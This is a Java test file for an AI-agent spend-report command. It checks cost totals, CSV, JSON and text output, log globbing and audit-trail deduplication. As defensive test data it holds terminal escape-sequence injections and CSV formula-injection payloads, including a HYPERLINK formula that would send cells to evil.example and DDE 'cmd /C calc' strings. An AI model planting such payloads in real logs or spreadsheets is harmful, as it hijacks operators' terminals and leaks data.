package dev.tollgate.agent.cli.report;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.PrintStream;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.zip.GZIPOutputStream;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.constraints.IntRange;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ReportCommandTest {
  @TempDir
  Path dir;

  record Out(int status, String out, String err) {}

  static Out report(String stdin, String... args) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    ByteArrayOutputStream err = new ByteArrayOutputStream();
    List<String> all = new ArrayList<>(List.of("report"));
    all.addAll(List.of(args));
    int status = ReportCommand.run(all.toArray(String[]::new),
        new ByteArrayInputStream(stdin.getBytes(StandardCharsets.UTF_8)), new PrintStream(out, true, StandardCharsets.UTF_8),
        new PrintStream(err, true, StandardCharsets.UTF_8));
    return new Out(status, out.toString(StandardCharsets.UTF_8), err.toString(StandardCharsets.UTF_8));
  }

  static String llm(String ts, String model, String cost, long in, long out, String run, String budgetSpent) {
    return "{\"ts\":\"" + ts + "\",\"event\":\"llm.call\",\"decision\":\"allow\",\"enforced\":false,\"model\":\"" + model
        + "\",\"run\":\"" + run + "\",\"input_tokens\":" + in + ",\"output_tokens\":" + out + ",\"cost_usd\":" + cost
        + ",\"budgets\":[{\"budget\":\"daily\",\"scope\":\"day\",\"period\":\"2026-12-04\",\"spent_usd\":" + budgetSpent
        + ",\"reserved_usd\":0.0,\"limit_usd\":1.0}]}\n";
  }

  static String tool(String ts, String tool, boolean denied, String rule) {
    return "{\"ts\":\"" + ts + "\",\"event\":\"tool.call\",\"decision\":\"" + (denied ? "deny" : "allow")
        + "\",\"enforced\":" + denied + ",\"rule\":\"" + rule + "\",\"tool\":\"" + tool + "\"}\n";
  }

  static final String LOG = ""
      + "{\"ts\":\"2026-12-04T09:00:00Z\",\"event\":\"agent.started\"}\n"
      + llm("2026-12-04T10:00:00Z", "gpt-4o", "0.123456789", 1000, 200, "r1", "0.123456789")
      + llm("2026-12-04T10:30:00Z", "gpt-4o-mini", "0.000000001", 10, 2, "r1", "0.12345679")
      + tool("2026-12-04T10:31:00Z", "delete_file", true, "tools.deny[0]")
      + tool("2026-12-04T10:32:00Z", "lookup", false, "tools.default")
      + "{\"ts\":\"2026-12-04T11:00:00Z\",\"event\":\"llm.call\",\"decision\":\"deny\",\"enforced\":true,"
      + "\"rule\":\"budgets[0]\",\"model\":\"gpt-4o\",\"reserved_usd\":0.0}\n"
      + llm("2026-12-05T08:00:00Z", "gpt-4o", "0.5", 3000, 100, "r2", "0.5")
      + "{\"ts\":\"2026-12-05T08:00:01Z\",\"event\":\"run.summary\",\"run\":\"r2\",\"llm_calls\":1,\"tool_calls\":0,"
      + "\"refusals\":0,\"cost_usd\":0.5,\"duration_ms\":900,\"halted\":false}\n";

  @Test
  void jsonTotalsAreTheExactSumOfTheLogsCosts() throws IOException {
    Path log = Files.writeString(dir.resolve("a.jsonl"), LOG);
    Out r = report("", "--log", log.toString(), "--format", "json");
    assertEquals(0, r.status(), r.err());
    assertTrue(r.out().contains("\"total_usd\" : 0.62345679"), r.out()); // 0.123456789 + 0.000000001 + 0.5
    assertTrue(r.out().contains("\"llm_calls\" : 3"), r.out());
    assertTrue(r.out().contains("\"tool_calls\" : 2"), r.out());
    assertTrue(r.out().contains("\"refusals\" : 2"), r.out());
    assertTrue(r.out().contains("\"model\" : \"gpt-4o\""), r.out());
    assertTrue(r.out().contains("\"limit_usd\" : 1"), r.out());
    assertTrue(r.out().contains("\"audit\" : [ ]"), r.out());
    assertEquals(1, r.out().split("\"by_model\"", -1).length - 1, "one by_model array\n" + r.out());
    Out byTool = report("", "--log", log.toString(), "--format", "json", "--by", "day");
    assertTrue(byTool.out().contains("\"by_day\" : [ {\n    \"key\" : \"2026-12-05\""), byTool.out());
  }

  @Test
  void callsChargedTheirWorstCaseAreCountedAndSaid() throws IOException {
    String unmetered = "{\"ts\":\"2026-12-05T10:00:01Z\",\"event\":\"llm.unmetered\",\"client\":\"jdk\","
        + "\"provider\":\"openai\",\"model\":\"gpt-4o\",\"problem\":\"unsupported content-encoding: usage not read\","
        + "\"output_tokens\":1024,\"cost_usd\":0.0103}\n";
    Path log = Files.writeString(dir.resolve("a.jsonl"), LOG + unmetered);
    Out text = report("", "--log", log.toString());
    assertEquals(0, text.status(), text.err());
    assertTrue(text.out().contains("1 LLM call's response could not be read: charged the worst case its hold reserved "
        + "(0.0103 USD; see llm.unmetered)"), text.out());
    Out json = report("", "--log", log.toString(), "--format", "json");
    assertTrue(json.out().contains("\"unmetered_llm_calls\" : 1"), json.out());
    Out none = report("", "--log", Files.writeString(dir.resolve("b.jsonl"), LOG).toString());
    assertFalse(none.out().contains("could not be read"), none.out());
  }

  @Test
  void textHasTheTablesAndABudgetBar() throws IOException {
    Path log = Files.writeString(dir.resolve("a.jsonl"), LOG);
    Out r = report("", "--log", log.toString());
    assertEquals(0, r.status(), r.err());
    assertTrue(r.out().contains("total 0.62345679 USD over 3 LLM calls (4010 input, 302 output tokens); 2 tool calls;"
        + " 2 refusals"), r.out());
    assertTrue(r.out().contains("Spend by model"), r.out());
    assertTrue(r.out().contains("[##########..........]"), "50 % of the daily budget\n" + r.out());
    assertTrue(r.out().contains("tools.deny[0]"), r.out());
    assertTrue(r.out().contains("r2"), "the costliest run\n" + r.out());
  }

  /**
   * Names a model or an app chose, as JSON escapes in the log: a tool whose name clears the screen and sets the
   * terminal's title, a model whose name returns the cursor to write a fake row over its own, a run id that reverses
   * the line (bidi override). The text report reaches an operator's terminal: none of them may act there.
   */
  static final String HOSTILE_LOG = ""
      + tool("2026-12-04T10:31:00Z", "lookup\\u001b]0;pwned\\u0007\\u001b[2J\\u001b[H", true, "tools.deny[0]")
      + llm("2026-12-04T10:32:00Z", "gpt-4o\\r  cheap-model  1  0  0  0.000001\\u009b2K", "9.5", 1, 1,
          "r\\u202e1nur", "9.5")
      + "{\"ts\":\"2026-12-04T10:33:00Z\",\"event\":\"run.summary\",\"run\":\"r\\u202e1nur\",\"session\":"
      + "\"s\\u001b[8m\",\"llm_calls\":1,\"tool_calls\":0,\"refusals\":0,\"cost_usd\":9.5,\"duration_ms\":1,"
      + "\"halted\":false}\n";

  /** True for a character that a terminal acts on instead of showing: controls but the line feed, bidi and format. */
  static boolean actsOnATerminal(int c) {
    return c != '\n' && Character.isISOControl(c) || Character.getType(c) == Character.FORMAT
        || c == '\u2028' || c == '\u2029';
  }

  @Test
  void namesFromTheLogCannotDriveTheOperatorsTerminal() {
    for (String by : new String[] {"model", "tool", "run"}) {
      Out r = report(HOSTILE_LOG, "--log", "-", "--by", by);
      assertEquals(0, r.status(), r.err());
      assertEquals(-1, r.out().codePoints().filter(ReportCommandTest::actsOnATerminal).findFirst().orElse(-1),
          "a control character reached the terminal (--by " + by + "):\n" + r.out());
      assertTrue(r.out().contains("lookup\\u001B]0;pwned\\u0007"), "shown, as its escape\n" + r.out());
    }
  }

  @Test
  void sinceUntilAndByDayAndCsv() throws IOException {
    Path log = Files.writeString(dir.resolve("a.jsonl"), LOG);
    Out r = report("", "--log", log.toString(), "--by", "day", "--format", "csv");
    assertEquals("day,calls,input_tokens,output_tokens,cost_usd,refusals\n2026-12-05,1,3000,100,0.5,0\n"
        + "2026-12-04,2,1010,202,0.12345679,1\n", r.out());
    Out until = report("", "--log", log.toString(), "--until", "2026-12-05", "--format", "csv");
    assertTrue(until.out().contains("gpt-4o,1,1000,200,0.123456789,1"), until.out());
    assertTrue(!until.out().contains("0.5"), until.out());
  }

  /**
   * A tool name is the first cell of a CSV row an operator opens in a spreadsheet: a formula there would run (a
   * HYPERLINK that sends the sheet's cells away, a DDE command), and a carriage return would start a row of its own.
   */
  @Test
  void csvCellsAreNeverFormulasNorSplitIntoRows() {
    String log = tool("2026-12-04T10:31:00Z", "=HYPERLINK(\\\"http://evil.example/?\\\"&A3,\\\"open\\\")", false, "x")
        + tool("2026-12-04T10:32:00Z", "+cmd|' /C calc'!A0", false, "x")
        + tool("2026-12-04T10:33:00Z", "@SUM(1+1)*cmd|' /C calc'!A0", false, "x")
        + tool("2026-12-04T10:34:00Z", "-2+3+cmd|' /C calc'!A0", false, "x")
        + tool("2026-12-04T10:35:00Z", "lookup\\r=1+1", false, "x");
    Out r = report(log, "--log", "-", "--format", "csv", "--by", "tool");
    assertEquals(0, r.status(), r.err());
    String[] rows = r.out().split("(?:\r\n|\r|\n)(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)"); // outside quotes
    assertEquals(6, rows.length, "a header and five rows, no more\n" + r.out());
    for (String row : rows) {
      String cell = row.startsWith("\"") ? row.substring(1) : row;
      assertTrue("=+-@\t\r".indexOf(cell.charAt(0)) < 0, "a cell a spreadsheet reads as a formula: " + row);
    }
    assertTrue(r.out().contains("'=HYPERLINK("), "the name is kept, as text\n" + r.out());
  }

  @Test
  void globsGzipRotatedFilesAndStandardInput() throws IOException {
    String[] lines = LOG.split("\n", -1);
    Files.writeString(dir.resolve("t-1.jsonl"), String.join("\n", List.of(lines).subList(0, 4)) + "\n");
    try (OutputStream gz = new GZIPOutputStream(Files.newOutputStream(dir.resolve("t-2.jsonl.gz")))) {
      gz.write((String.join("\n", List.of(lines).subList(4, lines.length))).getBytes(StandardCharsets.UTF_8));
    }
    Out globbed = report("", "--log", dir.resolve("t-*").toString(), "--format", "json");
    assertEquals(0, globbed.status(), globbed.err());
    assertTrue(globbed.out().contains("\"total_usd\" : 0.62345679"), globbed.out());
    Out stdin = report(LOG, "--log", "-", "--format", "json");
    assertTrue(stdin.out().contains("\"total_usd\" : 0.62345679"), stdin.out());
  }

  @Test
  void badLinesAreNamedByFileAndLineAndATornLastLineIsOnlyAWarning() throws IOException {
    Path log = Files.writeString(dir.resolve("bad.jsonl"), LOG.replace("\"event\":\"agent.started\"}",
        "\"event\":\"agent.started\"") + "{\"ts\":\"2026-12-05T09:00:00Z\",\"event\":\"llm.ca");
    Out r = report("", "--log", log.toString());
    assertEquals(1, r.status());
    assertTrue(r.err().contains(log + ":1: "), r.err());
    assertTrue(r.err().contains(log + ":9: warning: the last line is incomplete"), r.err());
    assertTrue(!r.err().contains("Source: REDACTED"), "the parser's internals are left out\n" + r.err());
    assertTrue(r.out().contains("total 0.62345679 USD"), "the rest is still reported\n" + r.out());
  }

  @Test
  void usageErrorsExitTwoAndMissingFilesOne() {
    assertEquals(2, report("", "--by", "color", "--log", "x").status());
    assertEquals(2, report("").status());
    Out missing = report("", "--log", dir.resolve("none.jsonl").toString());
    assertEquals(1, missing.status());
    assertTrue(missing.err().contains("none.jsonl: cannot read"), missing.err());
    assertEquals(1, report("", "--log", dir.resolve("nothing-*.jsonl").toString()).status());
  }

  @Property(tries = 50)
  void totalsEqualTheSumOfRandomCostsToTheNanoDollar(@ForAll long seed, @ForAll @IntRange(min = 1, max = 300) int n)
      throws IOException {
    Random random = new Random(seed);
    StringBuilder log = new StringBuilder();
    BigDecimal sum = BigDecimal.ZERO;
    for (int i = 0; i < n; i++) {
      BigDecimal cost = BigDecimal.valueOf(random.nextLong(0, 5_000_000_000L), 9).stripTrailingZeros();
      sum = sum.add(cost);
      log.append(llm("2026-12-04T10:00:00Z", "m" + random.nextInt(3), cost.toPlainString(), 1, 1, "r", "0"));
    }
    Out r = report(log.toString(), "--log", "-", "--format", "csv", "--by", "run");
    String[] row = r.out().split("\n")[1].split(",");
    assertEquals(0, sum.compareTo(new BigDecimal(row[4])), r.out());
  }

  @Test
  void theAuditTrailListsEachOperatorActionOnceHoweverManyJvmsLoggedIt() {
    String override = "\"event\":\"budget.override\",\"id\":\"5feebf0b\",\"at\":\"2026-12-04T10:00:00Z\","
        + "\"budget\":\"daily\",\"scope\":\"day\",\"by\":\"alice\",\"reason\":\"incident 42\",\"before_usd\":1.0,"
        + "\"after_usd\":1.4,\"add_usd\":0.4,\"until\":\"2026-12-04T11:00:00Z\"}\n";
    String log = "{\"ts\":\"2026-12-04T10:00:01Z\"," + override
        + "{\"ts\":\"2026-12-04T10:00:02Z\"," + override // a second JVM applied the same record
        + "{\"ts\":\"2026-12-04T12:00:01Z\",\"event\":\"budget.reset\",\"id\":\"6855cec0\",\"at\":"
        + "\"2026-12-04T12:00:00Z\",\"budget\":\"daily\",\"scope\":\"day\",\"by\":\"bob\",\"reason\":\"new day\","
        + "\"before_usd\":1.2,\"after_usd\":0.0}\n"
        + "{\"ts\":\"2026-12-04T12:30:00Z\",\"event\":\"approval.requested\",\"id\":\"0badc0de\",\"budget\":\"daily\"}\n";
    Out json = report(log, "--log", "-", "--format", "json");
    assertEquals(0, json.status(), json.err());
    Map<String, Object> parsed;
    try {
      parsed = dev.tollgate.policy.event.JsonLine.parse(json.out());
    } catch (java.io.IOException e) {
      throw new AssertionError(json.out(), e);
    }
    @SuppressWarnings("unchecked")
    List<Map<String, Object>> audit = (List<Map<String, Object>>) parsed.get("audit");
    assertEquals(2, audit.size(), json.out());
    assertEquals("override", audit.get(0).get("action"));
    assertEquals("5feebf0b", audit.get(0).get("id"));
    assertEquals("alice", audit.get(0).get("by"));
    assertEquals("incident 42", audit.get(0).get("reason"));
    assertEquals(0, new java.math.BigDecimal("1.4").compareTo((java.math.BigDecimal) audit.get(0).get("after_usd")));
    assertEquals("reset", audit.get(1).get("action"));
    assertEquals("2026-12-04T12:00:00Z", audit.get(1).get("ts"), "when the operator acted");
    assertEquals(0, new java.math.BigDecimal("1.2").compareTo((java.math.BigDecimal) audit.get(1).get("before_usd")));
    Out text = report(log, "--log", "-");
    assertTrue(text.out().contains("Audit trail"), text.out());
    assertTrue(text.out().contains("override  daily") && text.out().contains("alice"), text.out());
  }
}
